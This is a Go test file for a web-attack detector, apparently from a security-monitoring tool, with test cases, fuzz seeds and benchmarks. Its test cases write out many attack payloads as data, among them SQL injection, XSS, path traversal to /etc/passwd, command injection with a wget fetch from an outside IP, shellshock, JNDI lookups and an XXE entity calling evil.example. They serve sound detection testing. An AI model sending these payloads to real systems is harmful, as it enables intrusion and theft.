package detect

import (
	"strings"
	"testing"
	"time"

	"github.com/litesoc/litesoc/parsers"
)

func TestProbesOf(t *testing.T) {
	for _, c := range []struct {
		name    string
		request parsers.Request
		class   string // "" for none
		sure    bool
	}{
		{"union", parsers.Request{Query: "id=1+UNION+SELECT+a,b+FROM+users"}, sqlInjection, true},
		{"quote", parsers.Request{Query: "id=1'+or+'1'%3D'1"}, sqlInjection, true},
		{"encoded twice", parsers.Request{Query: "id=1%2527%2520or%25201=1--%2520"}, sqlInjection, true},
		{"in the path", parsers.Request{Path: "/users/1'%20or%20'1'='1"}, sqlInjection, true},
		{"sleep", parsers.Request{Query: "id=1;select+pg_sleep(5)--"}, sqlInjection, true},
		{"CDATA at which the library fails", parsers.Request{Query: "x=<![CDATA[a]bc]"}, crossSite, false},
		{"CDATA", parsers.Request{Query: "x=<![CDATA[a]]>"}, "", false},
		{"a name", parsers.Request{Query: "name=O'Brien"}, "", false},
		{"names", parsers.Request{Query: "q=O'Brien+and+D'Arcy+or+others"}, "", false},
		{"prose", parsers.Request{Query: "q=select+all+items+from+the+list+and+drop+a+line"}, "", false},
		{"numbers", parsers.Request{Query: "q=1+and+2"}, "", false},
		{"a comparison", parsers.Request{Query: "q=1+and+2%3D2"}, sqlInjection, true},
		{"formula", parsers.Request{Query: "expr=(1%2B2)*3"}, "", false},
		{"JSON", parsers.Request{Query: `f={"name":"O'Brien","or":[1,2]}`}, "", false},
		{"no JSON, for all its brace", parsers.Request{Query: "f={1'+union+select+a,b+from+users--"}, sqlInjection, true},
		{"base64", parsers.Request{Query: "d=eyJhIjoiYiJ9Cg%3D%3D"}, "", false},
		{"GraphQL", parsers.Request{Query: `query={user(id:1){name,posts(first:10){edges{node{title}}}}}`}, "", false},
		{"OData", parsers.Request{Path: "/Users(1)", Query: "$filter=Name+eq+'Ann'&$top=10"}, "", false},
		{"a search", parsers.Request{Query: "q=tom+%26+jerry;+the+movie+(1992)"}, "", false},
		{"ISO times", parsers.Request{Query: "from=2026-03-01T10:00:00%2B01:00&to=2026-03-02T10:00:00Z"}, "", false},

		{"a file in a header", parsers.Request{Referer: "https://wiki.example.com/etc/passwd", UserAgent: browserAgent}, "", false},
		{"a climb to a file in a header", parsers.Request{Referer: "https://wiki.example.com/../../etc/passwd", UserAgent: browserAgent}, traversal, true},

		{"script", parsers.Request{Query: "q=%3Cscript%3Ealert(1)%3C/script%3E"}, crossSite, true},
		{"handler", parsers.Request{Query: "q=%22%3E%3Cimg+src=x+onerror=alert(1)%3E"}, crossSite, true},
		{"javascript URL", parsers.Request{Query: "next=javascript:alert(document.domain)"}, crossSite, true},
		{"a script in a path", parsers.Request{Path: "/x/javascript:alert(1)"}, crossSite, true},
		{"a link that does nothing", parsers.Request{Path: "/app/javascript:void(0);"}, "", false},
		{"less than", parsers.Request{Query: "q=a+%3C+b+and+b+%3E+c"}, "", false},

		{"traversal", parsers.Request{Query: "file=../../../etc/passwd"}, traversal, true},
		{"encoded traversal", parsers.Request{Path: "/static/..%2f..%2f..%2fetc/passwd"}, traversal, true},
		{"encoded dots", parsers.Request{Path: "/cgi-bin/.%2e/.%2e/bin/x"}, traversal, true},
		{"encoded twice too", parsers.Request{Path: "/a/%252e%252e%252fb"}, traversal, true},
		{"overlong", parsers.Request{Query: "f=%c0%ae%c0%ae/x"}, traversal, true},
		{"semicolon", parsers.Request{Path: "/a/..;/manager"}, traversal, true},
		{"absolute", parsers.Request{Query: "file=/etc/passwd"}, traversal, true},
		{"windows", parsers.Request{Query: "file=..%5C..%5Cwindows%5Cwin.ini"}, traversal, true},
		{"above the root", parsers.Request{Path: "/../x"}, traversal, true},
		{"an encoded link", parsers.Request{Path: "/api/files/..%2Fnotes.md"}, traversal, false},
		{"a link above the root", parsers.Request{Path: "/files/../../docs/setup.md"}, traversal, false},
		{"an encoded link to no document", parsers.Request{Path: "/api/files/..%2Fconfig"}, traversal, true},
		{"many climbs to a document", parsers.Request{Path: "/api/files/..%2F..%2F..%2Fnotes.md"}, traversal, true},
		{"a password file by the name of a document", parsers.Request{Path: "/a/..%2F..%2Fetc/passwd%00.png"}, traversal, true},
		{"a relative link", parsers.Request{Path: "/docs/../img/a.png"}, traversal, false},
		{"a dotted name", parsers.Request{Path: "/a..b/file...txt"}, "", false},
		{"a range", parsers.Request{Query: "range=1..10"}, "", false},

		{"pipe", parsers.Request{Query: "ip=127.0.0.1|cat+/etc/hosts"}, commandInjection, true},
		{"semicolon command", parsers.Request{Query: "ip=1;wget+http://198.51.100.1/x"}, commandInjection, true},
		{"substitution", parsers.Request{Query: "n=$(whoami)"}, commandInjection, true},
		{"IFS", parsers.Request{Query: "n=x;cat$IFS/a"}, commandInjection, true},
		{"shellshock", parsers.Request{UserAgent: "() { :; }; /bin/bash -c id"}, commandInjection, true},
		{"named command", parsers.Request{Query: "cmd=id+-a"}, commandInjection, true},
		{"matrix parameter", parsers.Request{Path: "/a;type=full;id=3"}, "", false},
		{"prose with semicolon", parsers.Request{Query: "note=bring+shoes;+find+keys"}, commandInjection, false},

		{"jndi", parsers.Request{UserAgent: "${jndi:ldap://198.51.100.1/a}"}, jndiLookup, true},
		{"jndi hidden", parsers.Request{Query: "x=%24%7B%24%7Blower:j%7Dnd%24%7Bupper:i%7D:%24%7B::-l%7Ddap://x%7D"}, jndiLookup, true},
		{"jndi by env", parsers.Request{Referer: "${${env:NaN:-j}ndi${env:NaN:-:}rmi://x}"}, jndiLookup, true},
		{"jndi before many lookups", parsers.Request{UserAgent: "${jndi:ldap://198.51.100.1/a}" + strings.Repeat("${a}", 100)}, jndiLookup, true},
		{"jndi around many lookups", parsers.Request{UserAgent: "${${lower:j}ndi:" + strings.Repeat("${a", 100) + "}"}, jndiLookup, true},
		{"jndi in the path", parsers.Request{Path: "/$%7Bjndi:dns://x%7D"}, jndiLookup, true},
		{"template left over", parsers.Request{Path: "/img/$%7Bproduct.id%7D", Query: "u={{user.name}}"}, "", false},
		{"jinja", parsers.Request{Query: "n={{7*7}}"}, templateInjection, true},
		{"spring", parsers.Request{Query: "n=$%7BT(java.lang.Runtime).getRuntime()%7D"}, templateInjection, true},
		{"CRLF", parsers.Request{Query: "l=x%0d%0aSet-Cookie:+a=b"}, headerInjection, true},
		{"a text of lines", parsers.Request{Query: "text=one%0D%0Atwo%0D%0Athree"}, "", false},
		{"php wrapper", parsers.Request{Query: "p=php://filter/convert.base64-encode/resource=x"}, phpInjection, true},
		{"php code", parsers.Request{Query: "p=%3C?php+phpinfo();"}, phpInjection, true},
		{"XXE", parsers.Request{Query: "x=%3C!DOCTYPE+a+[%3C!ENTITY+b+SYSTEM+%22file:///c%22%3E]%3E"}, xmlEntity, true},
		{"XXE in a body", parsers.Request{Body: "body=%3C!DOCTYPE+a+[%3C!ENTITY+b+SYSTEM+%22http://evil.example/c%22%3E]%3E%3Ca/%3E"}, xmlEntity, true},
		{"XXE that is written about", parsers.Request{Body: "text=do+not+send+%3C!ENTITY+b+SYSTEM+%22file:///c%22%3E"}, xmlEntity, false},
		{"mongo", parsers.Request{Query: "user[$ne]=x"}, nosqlInjection, true},

		{"sqlmap", parsers.Request{UserAgent: "sqlmap/1.8#stable (https://sqlmap.org)"}, scannerAgent, true},
		{"nikto", parsers.Request{UserAgent: "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)"}, scannerAgent, true},
		{"zgrab", parsers.Request{UserAgent: "Mozilla/5.0 zgrab/0.x"}, scannerAgent, true},
		{"nmap", parsers.Request{UserAgent: "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"}, scannerAgent, true},
		{"acunetix", parsers.Request{UserAgent: "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.21 (KHTML, like Gecko) Chrome/41.0.2228.0 Safari/537.21 (Acunetix)"}, scannerAgent, true},
		{"ffuf", parsers.Request{UserAgent: "Fuzz Faster U Fool v2.1.0-dev"}, scannerAgent, true},
		{"a browser", parsers.Request{UserAgent: browserAgent}, "", false},
		{"a library", parsers.Request{UserAgent: "python-requests/2.31.0"}, "", false},
		{"an app", parsers.Request{UserAgent: "Example%20App/3 CFNetwork/1490 Darwin/23.2.0 [FBAN/FBIOS;FBAV/1]"}, "", false},
		{"a search engine's page", parsers.Request{Referer: "https://search.example/?q=1'+or+'1'%3D'1"}, sqlInjection, false},
	} {
		t.Run(c.name, func(t *testing.T) {
			hits := probesOf(&c.request)
			if c.class == "" {
				if len(hits) > 0 {
					t.Fatalf("found %+v", hits)
				}
				return
			}
			for _, h := range hits {
				if h.Class == c.class && h.Sure == c.sure {
					if !mayProbe(&c.request) {
						t.Error("the quick look misses it")
					}
					return
				}
			}
			t.Errorf("got %+v, want %s, sure: %v", hits, c.class, c.sure)
		})
	}
}

const browserAgent = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36"

// FuzzQuickLooks holds the quick looks of both detectors to the full ones.
func FuzzQuickLooks(f *testing.F) {
	f.Add("/a/..%2f", "u=http%3a//127.1&q='+or+1=1", "sqlmap", "http://x/?q=<script>")
	f.Add("/http:/10.0.0.1", "host=localhost&x=%25%32%37", "${jndi:x}", "-")
	f.Add("/%2e%2e/", "to=%EF%BC%91", "() { :;};id", "{{7*7}}")
	f.Add("/proxy/http%253A%252F%252Flocalhost", "", "", "")
	f.Add("/", "u=http%253A%252F%252Flocalhost%252F", "", "")
	f.Add("/", "host=%256cocalhost", "", "")
	f.Add("/", "next=+%27metadata&url=[::1]&link=%09localhost&a=..%c0%af", "", "'")
	f.Fuzz(func(t *testing.T, path, query, agent, referer string) {
		r := &parsers.Request{Path: path, Query: query, UserAgent: agent, Referer: referer}
		if hits := probesOf(r); len(hits) > 0 && !mayProbe(r) {
			t.Fatalf("the quick look misses %+v", hits)
		}
		if a, found := aimOf(r); found && !mayAim(r) {
			t.Fatalf("the quick look misses %+v", a)
		}
	})
}

func BenchmarkQuickLooks(b *testing.B) {
	for _, c := range []struct {
		name string
		r    parsers.Request
	}{
		{"api", parsers.Request{Path: "/api/v1/users/123", Query: "page=2&limit=50", UserAgent: "okhttp/4.12.0", Referer: ""}},
		{"browser", parsers.Request{Path: "/api/v1/orders/7f3a/items", Query: "page=2&sort=created_at", UserAgent: browserAgent, Referer: "https://app.example.com/orders"}},
		{"search", parsers.Request{Path: "/search", Query: "q=red+running+shoes&page=2", UserAgent: browserAgent, Referer: "https://app.example.com/"}},
		{"json", parsers.Request{Path: "/search", Query: "filter=%7B%22name%22%3A%22shoes%22%2C%22size%22%3A%5B41%2C42%5D%7D", UserAgent: browserAgent}},
		{"webhook", parsers.Request{Path: "/hooks", Query: "url=https%3A%2F%2Fhooks.example.com%2Fin", UserAgent: "curl/8.5.0"}},
		{"attack", parsers.Request{Path: "/users", Query: "id=1'+UNION+SELECT+1,2,3--+", UserAgent: "curl/8.5.0"}},
	} {
		c.r.AgentNotes, c.r.Features = &parsers.Notes{}, featuresOf(&c.r)
		for _, d := range []*Detector{Probe(), SSRF()} {
			b.Run(d.Name+"/"+c.name, func(b *testing.B) {
				b.ReportAllocs()
				for b.Loop() {
					d.Match(&c.r)
				}
			})
		}
	}
}

// What is looked at for a probe takes time that grows with the text alone.
func TestProbesOfIsLinear(t *testing.T) {
	for _, part := range []string{"{{", "${", "<%", "{%", "@(", "{{1*", "${a", "${a:-", "${a}", "${jnd", "${${lower:", "%7B%7B", "|", ";cat ", "../", "<a ", "on=", ")("} {
		text := strings.Repeat(part, maxProbeText/len(part))
		took := time.Hour
		for range 3 { // the quickest of them: others use the machine, too
			began := time.Now()
			for range 10 {
				probesOf(&parsers.Request{Path: "/" + text, Query: "q=" + text, UserAgent: text})
			}
			took = min(took, time.Since(began))
		}
		// It takes less than a tenth of that; were it quadratic, more than all of it.
		if took > time.Second {
			t.Errorf("%q: %v", part, took)
		}
	}
}
